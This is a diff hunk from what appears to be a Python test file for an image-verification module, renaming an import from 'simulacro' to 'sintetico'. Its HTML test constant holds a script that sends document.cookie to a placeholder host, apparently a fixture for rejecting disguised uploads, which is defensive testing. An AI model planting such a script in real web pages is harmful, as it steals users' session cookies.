@@ -27,7 +27,7 @@ from prep.image_check import (
     declared_by_name,
     verify_image,
 )
-from prep.simulacro.acta_image import ActaImageOptions, render_acta_image
+from prep.sintetico.acta_image import ActaImageOptions, render_acta_image
 from tests.harness.images import padded_jpeg, tiny_png
 
 HTML = b"<html><script>fetch('https://example.invalid/'+document.cookie)</script></html>"
